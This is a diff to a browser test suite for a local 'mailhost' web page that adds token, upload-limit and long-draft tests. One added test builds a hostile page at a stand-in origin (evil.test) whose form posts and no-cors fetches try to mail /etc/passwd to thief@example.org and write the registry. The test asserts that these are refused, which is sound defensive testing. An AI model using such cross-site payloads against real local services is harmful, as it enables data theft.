@@ -1,12 +1,14 @@
 // The page as a person uses it, in Debian's Chromium: mailhost --web with the
-// add-in registered in a data folder of the test's own.
-// The Maildir is seeded as scripts/run seeds it, and Send goes to a loopback
-// SMTP server of the test's own.
+// add-in registered in a data folder of the test's own, opened at the address
+// it prints (with this start's token). The Maildir is seeded as scripts/run
+// seeds it, and Send goes to a loopback SMTP server of the test's own. Pages
+// of other origins in the same browser try to drive it and must not.
 // Environment: MAILHOST, ADDIN (the library), ARTIFACTS (screenshots go there).
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
 import { spawn, spawnSync } from "node:child_process";
 import { cpSync, existsSync, mkdtempSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createServer, request } from "node:http";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
@@ -22,7 +24,9 @@ mkdirSync(artifacts, { recursive: true });
 const data = mkdtempSync(join(tmpdir(), "mailhost-page-"));
 const smtpOut = join(data, "smtp");
 const maildir = join(data, "Maildir");
-let browser, page, host, smtp, smtpPort, port = 0;
+let browser, page, host, smtp, smtpPort, address, port = 0;
+const uploadLimitMiB = 1;
+const cspViolations = [];
 
 function must(command, args) {
   const done = spawnSync(command, args, { encoding: "utf8" });
@@ -45,6 +49,10 @@ function seed() {
   for (const [name, subject] of [["1700000000.plain1.test", "Lunch on Friday?"], ["1700000001.plain2.test", "Quarterly report"]]) {
     writeFileSync(join(maildir, "new", name), `From: Kim <kim@example.org>\r\nTo: you@localhost\r\nSubject: ${subject}\r\nDate: Tue, 14 Nov 2023 22:13:20 +0000\r\nMessage-ID: <${name}@example.org>\r\n\r\nSee you.\r\n`);
   }
+  // A draft whose text is far longer than the page shows at once.
+  mkdirSync(join(maildir, ".Drafts", "cur"), { recursive: true });
+  const minutes = Array.from({ length: 4000 }, (_, i) => `Line ${i + 1} of the minutes.`).join("\r\n") + "\r\nEND OF MINUTES\r\n";
+  writeFileSync(join(maildir, ".Drafts", "cur", "1700000002.minutes.test:2,DS"), `From: me@example.org\r\nTo: team@example.org\r\nSubject: Minutes\r\nDate: Tue, 14 Nov 2023 22:13:20 +0000\r\nMessage-ID: <minutes@example.org>\r\n\r\n${minutes}`);
 }
 
 // The text part of a message file, decoded by Python's own mail parser.
@@ -63,17 +71,46 @@ function mp3Of(file) {
   return { name, size: Number(size), head };
 }
 
+// The names of a message file's attachments, as Python's own mail parser finds them.
+function attachmentNames(file) {
+  const script = "import email,sys\nm=email.message_from_binary_file(open(sys.argv[1],'rb'))\n" +
+    "print('\\n'.join(p.get_filename() for p in m.walk() if p.get_filename()))";
+  return must(python, ["-c", script, file]).trim().split("\n");
+}
+
+// A page of another site: it knows where mailhost listens but not its
+// secret, and tries what drove an unguarded mailhost: text/plain form posts
+// (no script needed) and no-cors fetches of commands, an upload and an answer.
+function hostilePage(target) {
+  const lines = ["new w9", "to w9 thief@example.org", "attach w9 /etc/passwd", "send w9",
+    "registry set Software\\Thief Stolen sz yes", "quit"];
+  // A form field `LINE #` with value x posts "LINE #=x": the rest is a comment.
+  const forms = lines.map((line, i) => `<iframe name="sink${i}"></iframe>` +
+    `<form method="post" enctype="text/plain" action="${target}/command" target="sink${i}"><input name="${line} #" value="x"></form>`);
+  const script = `
+    const target = ${JSON.stringify(target)};
+    const post = (path, body) => fetch(target + path, { method: "POST", mode: "no-cors", credentials: "include", body });
+    const tries = ${JSON.stringify(lines)}.map((line) => post("/command", line));
+    tries.push(post("/upload?window=w9&name=passwd", "root:x:0:0"), post("/answer", "Yes"));
+    const frames = [...document.querySelectorAll("iframe")];
+    tries.push(...frames.map((frame) => new Promise((done) => { frame.onload = done; setTimeout(done, 10000); })));
+    for (const form of document.forms) form.submit();
+    Promise.allSettled(tries).then(() => { document.title = "tried"; });`;
+  return `<!doctype html><title>hostile</title>${forms.join("\n")}<script>${script}</script>`;
+}
+
 function startHost() {
   return new Promise((resolve, reject) => {
     // A closed loopback port: the update check fails fast and quietly.
     const env = { ...process.env, SONVERA_PRODUCT_HOST: "http://127.0.0.1:9" };
-    const args = ["--web", String(port), "--data", data, "--smtp", `smtp://127.0.0.1:${smtpPort}`, "--from", "me@example.org"];
+    const args = ["--web", String(port), "--data", data, "--smtp", `smtp://127.0.0.1:${smtpPort}`, "--from", "me@example.org",
+      "--upload-limit", String(uploadLimitMiB)];
     const child = spawn(mailhost, args, { env, stdio: ["ignore", "pipe", "pipe"] });
     let out = "";
     child.stdout.on("data", (chunk) => {
       out += chunk;
-      const found = out.match(/^page http:\/\/127\.0\.0\.1:(\d+)\/$/m);
-      if (found) { port = Number(found[1]); resolve(child); }
+      const found = out.match(/^page (http:\/\/127\.0\.0\.1:(\d+)\/\?token=[0-9a-f]{64})$/m);
+      if (found) { address = found[1]; port = Number(found[2]); resolve(child); }
     });
     child.stderr.on("data", (chunk) => process.stderr.write(chunk));
     child.on("exit", (code) => reject(new Error(`mailhost ended with ${code} before it served: ${out}`)));
@@ -94,6 +131,26 @@ async function shot(name) {
 const bar = (win) => page.locator(`.window[data-name="${win}"] .bar`);
 const box = () => page.locator("dialog#box[open]");
 
+// A request to mailhost as a script or another program makes it: `host` is
+// the Host header, `token` goes as "Authorization: Bearer".
+function ask(path, { method = "GET", host = `127.0.0.1:${port}`, token, body } = {}) {
+  return new Promise((resolve, reject) => {
+    const headers = { Host: host };
+    if (token) headers.Authorization = `Bearer ${token}`;
+    const req = request({ host: "127.0.0.1", port, path, method, headers }, (res) => {
+      let text = "";
+      res.setEncoding("utf8");
+      res.on("data", (chunk) => { text += chunk; });
+      res.on("end", () => resolve({ status: res.statusCode, text }));
+    });
+    req.on("error", reject);
+    req.end(body);
+  });
+}
+const token = () => readFileSync(join(data, "page-token"), "utf8").trim();
+const mailFiles = (folder) => ["cur", "new"].flatMap((sub) => readdirSync(join(maildir, folder, sub)));
+const uploadsLeft = () => existsSync(join(data, "uploads")) ? readdirSync(join(data, "uploads")) : [];
+
 before(async () => {
   // A copy of the add-in folder: recordings land beside the library.
   cpSync(dirname(addin), join(data, "addin"), { recursive: true });
@@ -103,10 +160,15 @@ before(async () => {
   seed();
   smtpPort = await startSmtp();
   host = await startHost();
-  browser = await chromium.launch({ executablePath: process.env.CHROMIUM || "/usr/bin/chromium", args: ["--no-sandbox"] });
-  page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
+  // evil.test is a name of another site that resolves to this machine.
+  browser = await chromium.launch({ executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
+    args: ["--no-sandbox", "--host-resolver-rules=MAP evil.test 127.0.0.1"] });
+  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
+  page = await context.newPage();
   page.setDefaultTimeout(60000);  // shared machines and the sanitizer build are slow
-  await page.goto(`http://127.0.0.1:${port}/`);
+  page.on("console", (message) => { if (/Content Security Policy/.test(message.text())) cspViolations.push(message.text()); });
+  await page.goto(address);
+  assert.equal(new URL(page.url()).search, "", "the page lands on the bare address, the token gone from it");
 });
 
 after(async () => {
@@ -125,6 +187,45 @@ test("the first start offers the tutorial in a box; No closes it and opens nothi
   await page.waitForFunction(() => !document.querySelector("dialog#box").open);
   assert.doesNotMatch(await page.locator("#log").textContent(), /^open /m);
   await page.locator("#explorer-bar button", { hasText: "Sonvera" }).waitFor();
+});
+
+test("pages of other origins and names cannot drive mailhost while the person's tab is logged in", async () => {
+  const registry = readFileSync(join(data, "registry.reg"));
+  const before = { drafts: mailFiles(".Drafts"), sent: mailFiles(".Sent"), smtp: readdirSync(smtpOut) };
+  const hostile = createServer((req, res) => {
+    res.writeHead(200, { "Content-Type": "text/html" });
+    res.end(hostilePage(`http://127.0.0.1:${port}`));
+  });
+  await new Promise((resolve) => hostile.listen(0, "127.0.0.1", resolve));
+  let other = null;
+  try {
+    other = await page.context().newPage();  // the same browser profile: the cookie is there
+    // Another port of this machine is the same site (the cookie goes along);
+    // evil.test is another site.
+    for (const origin of [`http://127.0.0.1:${hostile.address().port}`, `http://evil.test:${hostile.address().port}`]) {
+      await other.goto(`${origin}/`);
+      await other.waitForFunction(() => document.title === "tried");
+    }
+    // DNS rebinding: a name of another site that now resolves to 127.0.0.1.
+    assert.equal((await other.goto(`http://evil.test:${port}/state`)).status(), 403);
+    assert.equal((await ask("/state", { host: `evil.test:${port}`, token: token() })).status, 403);
+    assert.equal((await ask("/state")).status, 403, "no token, no state");
+    assert.equal((await ask("/command", { method: "POST", body: "new w9" })).status, 403);
+    assert.equal((await ask("/state", { token: token() })).status, 200, "the token is what opens it");
+  } finally {
+    await other?.close();
+    hostile.closeAllConnections();
+    hostile.close();
+  }
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  assert.equal(host.exitCode, null, "mailhost still runs");
+  const state = JSON.parse((await ask("/state", { token: token() })).text);
+  assert.deepEqual(state.windows.map((w) => w.name).filter((name) => name === "w9"), [], "no window was opened");
+  assert.deepEqual(mailFiles(".Drafts"), before.drafts, "no draft was made");
+  assert.deepEqual(mailFiles(".Sent"), before.sent, "nothing was sent");
+  assert.deepEqual(readdirSync(smtpOut), before.smtp, "nothing reached the mail server");
+  assert.ok(readFileSync(join(data, "registry.reg")).equals(registry), "the registry file is unchanged");
+  assert.doesNotMatch(await page.locator("#log").textContent(), /thief|Thief|passwd/);
 });
 
 test("the received voice mail plays from the main window and stops", async () => {
@@ -170,6 +271,18 @@ test("record a voice mail: the meter moves, Stop attaches the MP3, Send submits 
   assert.equal(await meter.count(), 0, "the meter is gone after Stop");
   await shot("recorded");
 
+  // A file of the person's own goes along, uploaded from the mail window; one
+  // above mailhost's limit is refused with a message and leaves nothing.
+  const picker = page.locator(`.window[data-name="${win}"] input[type=file]`);
+  writeFileSync(join(data, "agenda.txt"), "Lunch on Friday, then the report.\n");
+  await picker.setInputFiles(join(data, "agenda.txt"));
+  await page.locator(`.window[data-name="${win}"] .attachment`, { hasText: "agenda.txt (34 bytes)" }).waitFor();
+  writeFileSync(join(data, "large.bin"), Buffer.alloc(uploadLimitMiB * 1024 * 1024 + 1));
+  await picker.setInputFiles(join(data, "large.bin"));
+  await page.locator("#error", { hasText: `large.bin is larger than ${uploadLimitMiB} MiB` }).waitFor();
+  assert.equal(await page.locator(`.window[data-name="${win}"] .attachment`, { hasText: "large.bin" }).count(), 0);
+  assert.deepEqual(uploadsLeft(), [], "no uploaded file is left on disk");
+
   await bar(win).getByRole("button", { name: "Play" }).click();
   await bar(win).getByRole("button", { name: "Stop" }).click();
   await bar(win).getByRole("button", { name: "Play" }).waitFor();
@@ -196,10 +309,13 @@ test("record a voice mail: the meter moves, Stop attaches the MP3, Send submits 
   assert.equal(sent.length, 1);
   const file = join(maildir, ".Sent", existsSync(join(maildir, ".Sent", "cur", sent[0])) ? "cur" : "new", sent[0]);
   assert.deepEqual(mp3Of(file), received);
+  assert.deepEqual(attachmentNames(file), ["Sonvera.mp3", "agenda.txt"]);
+  assert.deepEqual(attachmentNames(join(smtpOut, "1.eml")), ["Sonvera.mp3", "agenda.txt"]);
   assert.match(textOf(file), footer);
   assert.match(textOf(join(smtpOut, "1.eml")), footer);
   const headers = readFileSync(file, "latin1").split(/\r?\n\r?\n/)[0];
   for (const name of ["Message-Id", "Date", "From", "To", "Subject"]) assert.match(headers, new RegExp(`^${name}: `, "mi"));
+  assert.deepEqual(cspViolations, [], "the page does nothing its own policy refuses");
 });
 
 test("a refused submission is a box, and the mail stays in Drafts", async () => {
@@ -221,7 +337,7 @@ test("a refused submission is a box, and the mail stays in Drafts", async () => 
   await page.locator('#messages[data-folder="Drafts"] tr[data-id]', { hasText: "Refused" }).waitFor();
 });
 
-test("the Properties dialog keeps the quality chosen; the page's command line shows it", async () => {
+test("the Properties dialog keeps the quality chosen; the page's command line refuses what only tests do", async () => {
   await page.getByRole("button", { name: "New mail" }).click();
   const win = await page.locator(".window.active").getAttribute("data-name");
   await bar(win).getByRole("button", { name: "Properties" }).click();
@@ -233,9 +349,15 @@ test("the Properties dialog keeps the quality chosen; the page's command line sh
   await shot("properties");
   await dialog.getByRole("button", { name: "Ok" }).click();
   await dialog.waitFor({ state: "detached" });
+  const section = (text) => text.split("[HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\Outlook\\Addins\\Sonvera.Amp]")[1].split("\n[")[0];
+  assert.match(section(readFileSync(join(data, "registry.reg"), "utf8")), /^"AQ"="3"$/m);
   await page.locator("#command").fill("registry show Software\\Microsoft\\Office\\Outlook\\Addins\\Sonvera.Amp");
   await page.locator("#command").press("Enter");
-  await page.locator("#log", { hasText: "Sonvera.Amp AQ=sz:3" }).waitFor();
+  await page.locator("#error", { hasText: "registry runs in scenarios (mailhost --script) and at mailhost's console, not on the page." }).waitFor();
+  await page.locator("#command").fill(`attach ${win} /etc/passwd`);
+  await page.locator("#command").press("Enter");
+  await page.locator("#error", { hasText: "attach runs in scenarios" }).waitFor();
+  assert.equal(await page.locator(`.window[data-name="${win}"] .attachment`).count(), 0);
   await page.locator(`.window[data-name="${win}"] button`, { hasText: "Close" }).click();
 });
 
@@ -254,12 +376,45 @@ test("the list selects several mails with Ctrl and opens one with Enter", async 
   await shot("opened");
 });
 
-test("a restart of mailhost while the page is open: the page reconnects, an error box is answered No", async () => {
+test("a long text shows its start, and the whole of it on demand; a change longer than a command is refused", async () => {
+  await page.locator("nav button", { hasText: "Drafts" }).click();
+  const row = page.locator('#messages[data-folder="Drafts"] tr[data-id]', { hasText: "Minutes" });
+  await row.click();
+  const reading = page.locator("#reading");
+  await reading.locator("button.whole", { hasText: /Show the whole text \(\d+ bytes\)/ }).waitFor();
+  assert.doesNotMatch(await reading.textContent(), /END OF MINUTES/);
+  await reading.locator("button.whole").click();
+  await page.locator("#reading", { hasText: "END OF MINUTES" }).waitFor();
+
+  await row.press("Enter");
+  const win = await page.locator(".window.active").getAttribute("data-name");
+  const text = page.locator(`.window[data-name="${win}"] [data-field=body]`);
+  await page.waitForFunction((name) => document.querySelector(`.window[data-name="${name}"] [data-field=body]`).value.startsWith("Line 1 "), win);
+  assert.equal(await text.getAttribute("readonly"), "", "a cut text is not to be changed");
+  assert.doesNotMatch(await text.inputValue(), /END OF MINUTES/);
+  await page.locator(`.window[data-name="${win}"] button.whole`).click();
+  await page.waitForFunction((name) => /END OF MINUTES/.test(document.querySelector(`.window[data-name="${name}"] [data-field=body]`).value), win);
+  assert.equal(await text.getAttribute("readonly"), null);
+  assert.equal(await page.locator(`.window[data-name="${win}"] button.whole`).isVisible(), false, "the whole text is there");
+  await text.press("End");
+  await text.type(" Signed.");
+  await text.blur();
+  await page.locator("#error", { hasText: "A command is at most 64 KiB." }).waitFor();
+  await page.locator(`.window[data-name="${win}"] button`, { hasText: "Close" }).click();
+});
+
+test("a restart of mailhost while the page is open: the page sends the person to the new address, an error box is answered No", async () => {
+  const oldAddress = address;
   await stopHost();
   await page.locator("#status", { hasText: "reconnecting" }).waitFor();
   // A face gone from the add-in's folder: its start asks whether to quit.
   rmSync(join(data, "addin", "PlayButton.bmp"));
   host = await startHost();
+  assert.notEqual(address, oldAddress, "each start has a token of its own");
+  // The old cookie is worth nothing now: the page says so and stops asking.
+  await page.locator("#status", { hasText: "mailhost was restarted" }).waitFor({ timeout: 60000 });
+  assert.match(await page.locator("#status").textContent(), new RegExp(`page http://127\\.0\\.0\\.1:${port}/\\?token=`));
+  await page.goto(address);
   await page.locator("#status", { hasText: "connected" }).waitFor({ timeout: 60000 });
   await box().waitFor();
   const text = await box().textContent();
